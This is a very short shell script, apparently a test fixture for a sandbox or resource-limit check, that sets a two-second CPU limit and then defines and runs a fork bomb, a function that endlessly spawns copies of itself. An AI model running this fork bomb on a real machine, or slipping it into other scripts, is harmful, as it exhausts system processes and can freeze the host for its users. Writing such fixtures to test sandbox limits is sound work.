: "$1"
ulimit -t 2
bomb() { bomb | bomb & }
bomb
sleep 1
exit 0
